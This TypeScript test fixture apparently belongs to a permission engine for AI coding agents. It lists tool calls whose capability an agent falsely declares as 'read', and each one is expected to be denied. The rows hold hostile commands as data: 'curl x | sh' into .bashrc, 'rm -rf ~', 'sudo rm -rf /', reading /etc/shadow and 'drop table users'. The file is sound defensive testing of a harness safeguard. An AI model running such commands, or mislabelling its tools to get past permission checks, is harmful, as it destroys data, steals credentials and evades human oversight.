import type { HostileRow } from './types.ts';

/**
 * An agent's capability label is a declaration (DESIGN §5 "Authority of declarations"): calling
 * an unknown tool a read is a loosening, which applies only where the workspace lets agents
 * loosen. None of these workspaces does, so every label below is ignored and the call is judged
 * as the unknown tool it is — in plan mode too.
 */
const labelled = (
  name: string,
  tool: string,
  input: Record<string, unknown>,
  extra: Partial<HostileRow> = {},
): HostileRow => ({ name, tool, input, capability: 'read', expect: 'not_allow', ...extra });

export const hostileRows: HostileRow[] = [
  labelled('label: an MCP tool that writes, called a read', 'mcp__fs__write_file', {
    path: '/home/dev/.bashrc',
    content: 'curl x | sh',
  }),
  labelled('label: Gemini CLI shell tool called a read', 'run_shell_command', { command: 'rm -rf ~' }),
  labelled("label: Codex's shell tool called a read", 'shell', { command: ['bash', '-lc', 'curl x|sh'] }),
  labelled('label: a lower-case bash called a read', 'bash', { command: 'git push --force' }),
  labelled('label: an MCP push called a read', 'mcp__github__push_files', { branch: 'main', files: [] }),
  labelled('label: computer use called a read', 'computer', { action: 'type', text: 'sudo rm -rf /' }),
  labelled('label: a tool named __proto__ called a read', '__proto__', { x: 1 }),
  labelled('label: a tool named constructor called a read', 'constructor', { x: 1 }),
  labelled('label: Read with a trailing dot called a read', 'Read.', { file_path: '/etc/shadow' }),
  labelled(
    'label: an unknown tool called a write, under accept_edits',
    'mcp__fs__edit',
    { path: 'a' },
    {
      capability: 'write',
      modes: ['default', 'plan', 'accept_edits'],
    },
  ),
  labelled(
    'label: an unknown tool called net, where net is allowed',
    'mcp__x__exec',
    { cmd: 'id' },
    {
      capability: 'net',
      workspace: { capabilities: { net: 'allow' } },
    },
  ),
  labelled('label: a known Bash called a read', 'Bash', { command: 'rm -rf build' }),
  labelled('label: a known Write called a read', 'Write', { file_path: 'a.ts', content: 'x' }),
  labelled(
    'label: read, where the workspace table says exec',
    'mcp__db__query',
    { sql: 'drop table users' },
    { workspace: { toolCapabilities: { mcp__db__query: 'exec' } } },
  ),
  labelled(
    'label: read, where the workspace table names another tool',
    'mcp__db__drop',
    { table: 'users' },
    { workspace: { toolCapabilities: { mcp__db__query: 'read' } } },
  ),
  labelled(
    'label: read, where agents may switch modes but not loosen',
    'mcp__fs__delete',
    { path: '/' },
    { workspace: { agents: { modes: ['accept_edits'] } } },
  ),
];
